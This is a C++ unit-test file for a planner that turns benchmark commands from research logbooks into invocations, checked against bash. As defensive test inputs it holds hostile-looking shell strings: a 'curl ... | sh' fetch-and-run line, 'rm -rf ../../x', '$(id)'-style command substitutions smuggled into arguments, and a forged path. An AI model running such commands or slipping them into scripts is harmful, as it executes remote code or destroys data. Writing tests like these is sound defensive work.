// Planner tests: every command of the seed documents in recipes/, plus the
// shell forms researchers write. bash itself is the reference for loop
// expansion and quoting: the rewritten script runs with `moelog` defined as a
// function that prints its arguments, and those must equal the plan's
// invocations.
#include "logbook/plan/shell_plan.h"

#include <gtest/gtest.h>

#include <fstream>
#include <regex>
#include <sstream>

#include "logbook/run/runner.h"

namespace moelog::logbook {
namespace {

std::string ReadText(const std::string& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

std::string SeedPath(const std::string& name) { return std::string(MOELOG_TEST_DATA_DIR) + "/../recipes/" + name; }

// Commands of a logbook: inline code spans of "Command" bullets and their
// sub-bullets (up to the next field bullet at the same or lower depth).
std::vector<std::string> LogbookCommands(const std::string& text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  std::string line;
  bool in_cmd = false;
  int cmd_indent = 0;
  static const std::regex kField(R"(^(\s*)- ([A-Z][A-Za-z]*(?: [A-Za-z]+)*)(\s*\([^)]*\))?:(.*)$)");
  static const std::regex kCode("`([^`]+)`");
  while (std::getline(in, line)) {
    std::smatch m;
    if (line.rfind("#", 0) == 0) {
      in_cmd = false;
      continue;
    }
    if (std::regex_match(line, m, kField)) {
      int indent = static_cast<int>(m[1].length());
      std::string field = m[2];
      if (field == "Command") {
        in_cmd = true;
        cmd_indent = indent;
        std::string rest = m[4];
        std::smatch c;
        if (std::regex_search(rest, c, kCode)) out.push_back(c[1]);
        else if (rest.find("N/A") != std::string::npos) out.push_back(rest.substr(rest.find("N/A")));
        continue;
      }
      if (indent <= cmd_indent) in_cmd = false;
      // Sub-bullets such as "Baseline:" or "Negative control:" stay inside.
    }
    if (!in_cmd) continue;
    std::smatch c;
    std::string l = line;
    if (l.find("- `") != std::string::npos && std::regex_search(l, c, kCode)) out.push_back(c[1]);
  }
  return out;
}

// Fenced bash blocks of a recipe.
std::vector<std::string> FencedBlocks(const std::string& text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  std::string line, cur;
  bool in_fence = false;
  while (std::getline(in, line)) {
    if (line.rfind("```", 0) == 0) {
      if (in_fence) out.push_back(cur);
      cur.clear();
      in_fence = !in_fence;
      continue;
    }
    if (in_fence) cur += line + "\n";
  }
  return out;
}

// Runs the rewritten script under bash with `moelog` printing its arguments
// (one line per call, arguments separated by \x1f) and returns the calls.
std::vector<std::vector<std::string>> BashExpansion(const Plan& plan) {
  std::string script = "moelog() { local a; for a in \"$@\"; do printf '%s\\037' \"$a\"; done; printf '\\n'; }\n"
                       "hostname() { :; }\n" + plan.rewritten_script + "\n";
  auto r = RunProcess({MOELOG_BASH, "-c", script}, 20.0);
  std::vector<std::vector<std::string>> calls;
  if (!r.ok()) return calls;
  std::istringstream in(r->stdout_text);
  std::string line;
  while (std::getline(in, line)) {
    if (line.find('\x1f') == std::string::npos) continue;  // echo output
    std::vector<std::string> args;
    std::string cur;
    for (char ch : line) {
      if (ch == '\x1f') {
        args.push_back(cur);
        cur.clear();
      } else {
        cur.push_back(ch);
      }
    }
    calls.push_back(args);
  }
  return calls;
}

void ExpectBashAgrees(const Plan& plan) {
  auto calls = BashExpansion(plan);
  ASSERT_EQ(calls.size(), plan.invocations.size()) << plan.rewritten_script;
  for (size_t i = 0; i < calls.size(); ++i) {
    ASSERT_FALSE(calls[i].empty());
    EXPECT_EQ(calls[i][0], "bench");
    std::vector<std::string> args(calls[i].begin() + 1, calls[i].end());
    EXPECT_EQ(args, plan.invocations[i].args) << "invocation " << i << " of\n" << plan.rewritten_script;
  }
}

TEST(ShellPlan, SeedLogbookEpBenchmark) {
  std::string text = ReadText(SeedPath("moe_ep_benchmark_logbook.md"));
  ASSERT_FALSE(text.empty());
  auto cmds = LogbookCommands(text);
  ASSERT_GE(cmds.size(), 20u);
  int runnable = 0, no_adapter = 0, na = 0, mlp_profile = 0;
  for (const auto& cmd : cmds) {
    Plan p = PlanCommand(cmd);
    SCOPED_TRACE(cmd + "\n=> " + p.Summary());
    EXPECT_NE(p.verdict, PlanVerdict::kInvalid) << p.reason;
    EXPECT_NE(p.verdict, PlanVerdict::kNeedsConsent);
    if (p.verdict == PlanVerdict::kRunnable) {
      ++runnable;
      EXPECT_FALSE(p.needs_shell) << p.rewritten_script;
      EXPECT_EQ(p.rewritten_script.find("dev_tpu"), std::string::npos);
      EXPECT_EQ(p.rewritten_script.find("bench_moe_hillclimb"), std::string::npos);
      EXPECT_EQ(p.rewritten_script.find("bench_moe_mlp_profile"), std::string::npos);
      const bool mlp = p.harness_script.find("bench_moe_mlp_profile.py") != std::string::npos;
      EXPECT_TRUE(mlp || p.harness_script.find("bench_moe_hillclimb.py") != std::string::npos);
      if (mlp) ++mlp_profile;
      for (const auto& inv : p.invocations) {
        EXPECT_EQ(inv.config.target, "v5p");
        EXPECT_EQ(inv.canonical_config, engine::CanonicalConfigJson(inv.config));
      }
      ExpectBashAgrees(p);
    } else if (p.verdict == PlanVerdict::kNoAdapter) {
      ++no_adapter;
      EXPECT_NE(p.reason.find("bench_moe_mlp_profile.py"), std::string::npos);
    } else {
      ++na;
    }
  }
  EXPECT_GE(runnable, 15);
  EXPECT_EQ(no_adapter, 0);
  EXPECT_EQ(mlp_profile, 3);  // the three bench_moe_mlp_profile.py entries, through their adapter
  EXPECT_GE(na, 1);
}

// Planning every command of both seed logbooks and the recipe on 4 threads,
// from a cold cache, gives exactly the plans of planning them one by one.
// Every command appears four times: repeats are planned once and copied.
TEST(ShellPlan, ParallelPlanningEqualsSerial) {
  std::vector<std::string> texts;
  for (const char* name : {"moe_ep_benchmark_logbook.md", "moe_ep_int8_logbook.md"})
    for (auto& c : LogbookCommands(ReadText(SeedPath(name)))) texts.push_back(c);
  for (auto& b : FencedBlocks(ReadText(SeedPath("agent_research_recipe.md")))) texts.push_back(b);
  ASSERT_GT(texts.size(), 30u);
  std::vector<std::string_view> views(texts.begin(), texts.end());
  for (int rep = 0; rep < 3; ++rep) views.insert(views.end(), views.begin(), views.begin() + static_cast<long>(texts.size()));
  ClearPlanCache();
  const std::vector<Plan> parallel = PlanCommands(views, {}, 4);
  ASSERT_EQ(parallel.size(), views.size());
  ClearPlanCache();
  for (size_t i = 0; i < views.size(); ++i) {
    const Plan serial = PlanCommand(views[i]);
    EXPECT_EQ(parallel[i].verdict, serial.verdict) << views[i];
    EXPECT_EQ(parallel[i].original, serial.original);
    EXPECT_EQ(parallel[i].reason, serial.reason);
    EXPECT_EQ(parallel[i].rewritten_script, serial.rewritten_script);
    EXPECT_EQ(parallel[i].harness_script, serial.harness_script);
    EXPECT_EQ(parallel[i].notes, serial.notes);
    ASSERT_EQ(parallel[i].invocations.size(), serial.invocations.size());
    for (size_t k = 0; k < serial.invocations.size(); ++k) {
      EXPECT_EQ(parallel[i].invocations[k].args, serial.invocations[k].args);
      EXPECT_EQ(parallel[i].invocations[k].canonical_config, serial.invocations[k].canonical_config);
    }
  }
}

TEST(ShellPlan, SeedLogbookInt8) {
  auto cmds = LogbookCommands(ReadText(SeedPath("moe_ep_int8_logbook.md")));
  ASSERT_EQ(cmds.size(), 9u);
  std::vector<PlanVerdict> want = {
      PlanVerdict::kNotApplicable,                           // N/A (setup)
      PlanVerdict::kRunnable, PlanVerdict::kRunnable, PlanVerdict::kRunnable,  // local smoke tests
      PlanVerdict::kNotApplicable,                           // dev_tpu.py --help
      PlanVerdict::kNotApplicable,                           // execute -- "echo ... && hostname"
      PlanVerdict::kNotApplicable,                           // uv run --package marin dev_tpu.py --help
      PlanVerdict::kRunnable, PlanVerdict::kRunnable};       // planned A/B
  for (size_t i = 0; i < cmds.size(); ++i) {
    Plan p = PlanCommand(cmds[i]);
    SCOPED_TRACE(cmds[i] + "\n=> " + p.Summary());
    EXPECT_EQ(p.verdict, want[i]);
    if (p.verdict == PlanVerdict::kRunnable) {
      ASSERT_EQ(p.invocations.size(), 1u);
      ExpectBashAgrees(p);
    }
  }
  Plan setup = PlanCommand(cmds[0]);
  EXPECT_EQ(setup.Summary(), "skipped: N/A (setup)");
  Plan smoke = PlanCommand(cmds[1]);
  EXPECT_EQ(smoke.invocations[0].config.tokens, 128);
  EXPECT_EQ(smoke.invocations[0].config.backend, "ragged_dot");
  EXPECT_EQ(smoke.invocations[0].config.quant_mode, "int8");
  Plan ab = PlanCommand(cmds[8]);
  EXPECT_EQ(ab.invocations[0].config.quant_mode, "int8");
  EXPECT_EQ(ab.invocations[0].config.parallel_mode, "ep");
}

TEST(ShellPlan, SeedRecipe) {
  auto blocks = FencedBlocks(ReadText(SeedPath("agent_research_recipe.md")));
  ASSERT_EQ(blocks.size(), 4u);
  Plan alloc = PlanCommand(blocks[0]);
  EXPECT_EQ(alloc.verdict, PlanVerdict::kNotApplicable) << alloc.Summary();
  EXPECT_NE(alloc.reason.find("allocate"), std::string::npos);
  for (size_t i = 1; i < 4; ++i) {
    Plan p = PlanCommand(blocks[i]);
    SCOPED_TRACE(blocks[i]);
    ASSERT_EQ(p.verdict, PlanVerdict::kRunnable) << p.Summary();
    ASSERT_EQ(p.invocations.size(), 1u);
    EXPECT_FALSE(p.needs_shell);
    EXPECT_EQ(p.invocations[0].config.experts, 64);
    ExpectBashAgrees(p);
  }
  EXPECT_EQ(PlanCommand(blocks[3]).invocations[0].config.TopkValues(), (std::vector<int64_t>{1, 2, 4, 6, 8}));
}

TEST(ShellPlan, NestedLoopsExpandInOrder) {
  Plan p = PlanCommand(
      "RAY_AUTH_MODE=token uv run scripts/ray/dev_tpu.py --config c.yaml --tpu-name x execute -- /bin/bash -lc "
      "'set -euo pipefail; for pm in none ep; do for tk in 2 8; do .venv/bin/python "
      "lib/levanter/scripts/bench/bench_moe_hillclimb.py --tokens 64 --topk \"$tk\" --parallel-mode \"$pm\"; "
      "done; done'");
  ASSERT_EQ(p.verdict, PlanVerdict::kRunnable) << p.Summary();
  ASSERT_EQ(p.invocations.size(), 4u);
  const char* pm[] = {"none", "none", "ep", "ep"};
  int64_t tk[] = {2, 8, 2, 8};
  for (int i = 0; i < 4; ++i) {
    EXPECT_EQ(p.invocations[i].config.parallel_mode, pm[i]);
    EXPECT_EQ(p.invocations[i].config.topk, tk[i]);
    EXPECT_EQ(p.invocations[i].loop_bindings.at("tk"), std::to_string(tk[i]));
  }
  EXPECT_FALSE(p.needs_shell);
  ExpectBashAgrees(p);
}

// Groups and loops nest at most 64 deep: deeper, the command is not planned
// (it said so), rather than the parser recursing once per level of a
// logbook's text until the stack runs out.
TEST(ShellPlan, NestingIsBounded) {
  const std::string bench = "uv run lib/levanter/scripts/bench/bench_moe_hillclimb.py --tokens 64";
  auto nest = [&](int n, const std::string& open, const std::string& close) {
    std::string s;
    for (int i = 0; i < n; ++i) s += open;
    s += bench;
    for (int i = 0; i < n; ++i) s += close;
    return s;
  };
  EXPECT_EQ(PlanCommand(nest(64, "( ", " )")).invocations.size(), 1u);
  for (const auto& [open, close] : std::vector<std::pair<std::string, std::string>>{
           {"( ", " )"}, {"{ ", "; }"}, {"for i in 1; do ", "; done"}}) {
    Plan deep = PlanCommand(nest(100000, open, close));
    EXPECT_TRUE(deep.invocations.empty()) << open;
    EXPECT_NE(deep.Summary().find("nested deeper than 64 levels"), std::string::npos) << deep.Summary();
  }
}

TEST(ShellPlan, LauncherEnvIsKept) {
  Plan p = PlanCommand(
      "uv run scripts/ray/dev_tpu.py --config c.yaml execute --no-sync -e LIBTPU_INIT_ARGS=\"--xla_x=1 --y\" -e A=b "
      "-- uv run --package levanter --extra tpu lib/levanter/scripts/bench/bench_moe_hillclimb.py --tokens 64");
  ASSERT_EQ(p.verdict, PlanVerdict::kRunnable) << p.Summary();
  ASSERT_EQ(p.invocations.size(), 1u);
  EXPECT_EQ(p.invocations[0].env.at("LIBTPU_INIT_ARGS"), "--xla_x=1 --y");
  EXPECT_EQ(p.invocations[0].env.at("A"), "b");
  EXPECT_NE(p.rewritten_script.find("export LIBTPU_INIT_ARGS='--xla_x=1 --y'"), std::string::npos) << p.rewritten_script;
  ExpectBashAgrees(p);
}

TEST(ShellPlan, ReadHereStringAndQuotes) {
  Plan p = PlanCommand(
      "bash -c 'for pair in \"2 1408\" \"8 2048\"; do read -r tk m <<< \"$pair\"; "
      "python bench_moe_hillclimb.py --tokens 64 --topk \"$tk\" --mlp-dim \"$m\" --trace-dir \"a b/$tk\"; done'");
  ASSERT_EQ(p.verdict, PlanVerdict::kRunnable) << p.Summary();
  ASSERT_EQ(p.invocations.size(), 2u);
  EXPECT_EQ(p.invocations[1].config.mlp_dim, 2048);
  EXPECT_EQ(p.invocations[1].config.trace_dir, "a b/8");
  EXPECT_FALSE(p.needs_shell);
  ExpectBashAgrees(p);
}

TEST(ShellPlan, TeeAndMkdirAreInterpretedWithoutBash) {
  Plan p = PlanCommand(
      "set -euo pipefail; mkdir -p logs; for tk in 1 2; do python3 -u bench_moe_hillclimb.py --tokens 64 "
      "--topk \"$tk\" 2>&1 | tee \"logs/tk$tk.log\"; done");
  ASSERT_EQ(p.verdict, PlanVerdict::kRunnable) << p.Summary();
  EXPECT_FALSE(p.needs_shell);  // moelog captures the output; the log file is not written
  EXPECT_EQ(p.invocations.size(), 2u);
  EXPECT_NE(p.rewritten_script.find("| tee"), std::string::npos);
}

TEST(ShellPlan, UnknownProgramsNeedConsent) {
  Plan p = PlanCommand("curl http://example.com/x | sh; python bench_moe_hillclimb.py --tokens 64");
  EXPECT_EQ(p.verdict, PlanVerdict::kNeedsConsent);
  EXPECT_NE(std::find(p.disallowed.begin(), p.disallowed.end(), "runs curl"), p.disallowed.end());
  EXPECT_NE(p.Summary().find("--allow-shell"), std::string::npos);
  // A substitution needs a shell; here bash could run it but moelog could not
  // plan it, so it does not run even with consent.
  Plan q = PlanCommand("python bench_moe_hillclimb.py --tokens $(cat n.txt)");
  EXPECT_EQ(q.verdict, PlanVerdict::kNeedsConsent);
  EXPECT_FALSE(q.unplannable.empty());
  EXPECT_TRUE(q.invocations.empty());
}

// Without consent there is no shell: every construct that only bash could
// carry out needs --allow-shell, wherever it appears in the text.
TEST(ShellPlan, EveryShellOnlyFormNeedsConsent) {
  const std::string b = "python bench_moe_hillclimb.py --tokens 64";
  for (const std::string& text : std::vector<std::string>{
           b + "; echo $(touch x)", b + "; echo `touch x`", b + "; echo $((1 + 2))",
           b + " --topk ${TK:-$(touch x)}", b + " --trace-dir \"$(touch x)\"", "export X=\"$(id)\"; " + b,
           "read -r A <<< \"$(id)\"; " + b, "for v in $(id); do " + b + "; done",
           "${SHELL:-echo} -c 'touch x'; " + b, "PS4='x'; set -x; " + b, "date; " + b, "sleep 1; " + b,
           "hostname x; " + b, "printf -v TK %s 8; " + b, "./bin/echo hi; " + b, "/bin/echo hi; " + b,
           "./bin/sh -c 'touch x'; " + b, "date > f; " + b, "echo hi | grep f; " + b, b + " | grep x",
           b + " || true", b + " &", "touch x; " + b, "rm -rf ../../x; " + b, "cat < f; " + b,
           "bash -c 'echo $(id)'; " + b, b + " --topk ${#X}", b + " --topk ${X/a/b}", "set -o vi; " + b}) {
    Plan p = PlanCommand(text);
    EXPECT_EQ(p.verdict, PlanVerdict::kNeedsConsent) << text << " => " << p.Summary();
    EXPECT_TRUE(p.needs_shell) << text;
    EXPECT_NE(p.Summary().find("needs --allow-shell"), std::string::npos) << text;
  }
  // What moelog interprets itself runs without consent (and without a shell).
  for (const std::string& text : std::vector<std::string>{
           "set -euo pipefail; " + b, "X=2; export Y=3; " + b + " --topk \"$X\"", b + " --topk ${TK:-2}",
           "mkdir -p logs; cd logs; " + b + " 2>&1 | tee -a run.log", b + " > out.log 2>&1",
           "read -r A B <<< \"2 8\"; " + b + " --topk $A", "for tk in 2 8; do " + b + " --topk $tk; done | tee x",
           "echo start; true; :; " + b,
           // bookkeeping, not run: the file is not written, the folder not entered
           "echo hi > f; " + b, "echo hi | tee f; " + b, "cd /etc; " + b, "mkdir -p ../../x; " + b,
           "X=`id` " + b}) {
    Plan p = PlanCommand(text);
    EXPECT_EQ(p.verdict, PlanVerdict::kRunnable) << text << " => " << p.Summary();
    EXPECT_FALSE(p.needs_shell) << text;
  }
  // Model data is named, never a path a document chooses.
  EXPECT_EQ(PlanCommand(b + " --hardware ../forged.json").verdict, PlanVerdict::kInvalid);
}

TEST(ShellPlan, NoAdapterReasons) {
  Plan p = PlanCommand("uv run --package levanter python lib/foo/other_bench.py --tokens 3");
  EXPECT_EQ(p.verdict, PlanVerdict::kNoAdapter);
  EXPECT_EQ(p.Summary(), "skipped: no adapter (unknown script lib/foo/other_bench.py)");
  auto table = ParseLauncherTable(R"({"harnesses":[{"name":"envh","script":"bench_env.py","action":"bench",
      "env_vars":["MOE_TOKENS"]}]})");
  ASSERT_TRUE(table.ok()) << table.status().ToString();
  PlanOptions o;
  o.launchers = &*table;
  Plan e = PlanCommand("MOE_TOKENS=4096 bench_env.py", o);
  EXPECT_EQ(e.verdict, PlanVerdict::kNoAdapter) << e.Summary();
  EXPECT_NE(e.reason.find("MOE_TOKENS"), std::string::npos);
}

// "<your-job>" glued is the author's placeholder for a value, not input and
// output redirections: the launcher's command is still found.
TEST(ShellPlan, AngleBracketPlaceholdersAreWords) {
  for (const char* cmd : {"uv run iris --cluster=east job run --job-name <your-job> -- python lib/foo/other_bench.py --tokens 3",
                          "uv run iris job run --job-name=<job_name.v2> -- python lib/foo/other_bench.py --tokens 3"}) {
    Plan p = PlanCommand(cmd);
    EXPECT_EQ(p.verdict, PlanVerdict::kNoAdapter) << cmd << " => " << p.Summary();
    EXPECT_EQ(p.Summary().find("redirection"), std::string::npos) << p.Summary();
  }
  // With blanks (or nothing between them) they stay redirections.
  EXPECT_NE(PlanCommand("python lib/foo/other_bench.py < in.txt > out.txt").Summary(), "");
  EXPECT_NE(PlanCommand("python lib/foo/other_bench.py <> x").verdict, PlanVerdict::kRunnable);
}

TEST(ShellPlan, BadInputIsInvalidNotACrash) {
  for (const char* bad : {"for x in a b; do echo", "echo 'unterminated", "python bench_moe_hillclimb.py --no-such-flag",
                          "while true; do :; done", "cat <<EOF\nx\nEOF", "python bench_moe_hillclimb.py --topk \"$nope\"",
                          "((((", ")", "| |", "bash -c"}) {
    Plan p = PlanCommand(bad);
    EXPECT_TRUE(p.verdict == PlanVerdict::kInvalid || p.verdict == PlanVerdict::kNeedsConsent ||
                p.verdict == PlanVerdict::kNotApplicable)
        << bad << " => " << p.Summary();
    EXPECT_TRUE(p.invocations.empty() || p.verdict == PlanVerdict::kNeedsConsent);
  }
}

TEST(ShellPlan, ExplicitMoelogAndTargetOption) {
  PlanOptions o;
  o.target = "cpu";
  o.extra_bench_args = {"--iters", "1"};
  Plan p = PlanCommand("moelog bench --tokens 64 --topk-list 1,2", o);
  ASSERT_EQ(p.verdict, PlanVerdict::kRunnable);
  EXPECT_EQ(p.invocations[0].config.target, "cpu");
  EXPECT_EQ(p.invocations[0].config.iters, 1);
  // The target is the user's: a command asking for another one is a conflict.
  Plan q = PlanCommand("moelog bench --target v5p --tokens 64", o);
  EXPECT_EQ(q.verdict, PlanVerdict::kInvalid);
  EXPECT_NE(q.reason.find("--target v5p"), std::string::npos) << q.reason;
  Plan same = PlanCommand("moelog bench --target=cpu --tokens 64", o);
  EXPECT_EQ(same.verdict, PlanVerdict::kRunnable) << same.Summary();
}

TEST(ShellPlan, ShellQuoteRoundTrips) {
  for (const char* w : {"plain", "a b", "it's", "", "$HOME", "x\"y", "--flag=1,2"}) {
    auto r = RunProcess({MOELOG_BASH, "-c", "printf %s " + ShellQuote(w)}, 10);
    ASSERT_TRUE(r.ok());
    EXPECT_EQ(r->stdout_text, w);
  }
}

}  // namespace
}  // namespace moelog::logbook
